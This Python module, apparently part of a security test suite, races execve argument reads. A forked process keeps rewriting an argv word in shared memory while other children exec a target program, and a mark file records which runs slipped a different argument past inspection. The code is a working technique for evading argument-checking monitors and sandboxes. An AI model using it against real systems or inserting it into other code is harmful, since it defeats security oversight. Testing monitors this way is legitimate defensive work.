"""Arguments that change while the kernel reads them."""
import ctypes
import mmap
import os
import signal

from attack import LIBC

TURNS, LIMIT = 30, 60


def rewritten(program, mark, shown, meant):
    """Starts `program` again and again with a word that somebody else turns from one into the other and back all the
    time. Each start begins when the word is `shown`; the mark is left by a program that got what is `meant`: it is there
    only where the race was won. The first that is killed for it tells who acts."""
    page = mmap.mmap(-1, mmap.PAGESIZE)
    word = (ctypes.c_char * 8).from_buffer(page)
    changer = changing(word, shown.encode(), meant.encode())
    try:
        ends = [started(program, mark, word, shown.encode(), meant) for _ in range(TURNS)]
    finally:
        os.kill(changer, signal.SIGKILL)
        os.waitpid(changer, 0)
    killed = [child for child, status in ends if os.WIFSIGNALED(status)]
    for child in killed[:1]:
        print("doer", child)


def changing(word, *words):
    """In a process of its own: no lock of Python's keeps it waiting while the other one is in the kernel."""
    child = os.fork()
    if child == 0:
        # It ends by itself where nobody is left to end it.
        signal.alarm(LIMIT)
    while child == 0:
        for one in words:
            word.value = one
    return child


def started(program, mark, word, shown, meant):
    child = os.fork()
    if child == 0:
        become(program, word, shown, "case $1 in %s) : >%s;; esac" % (meant, mark))
    return os.waitpid(child, 0)


def become(program, word, shown, text):
    argv = (ctypes.c_void_p * 7)()
    kept = [ctypes.create_string_buffer(text) for text in (b"sh", b"-c", text.encode(), b"x", b"--force")]
    kept.insert(4, word)
    for at, buffer in enumerate(kept):
        argv[at] = ctypes.addressof(buffer)
    nothing = (ctypes.c_void_p * 1)()
    while word.value != shown:
        pass
    LIBC.execve(program.encode(), argv, nothing)
    os._exit(1)
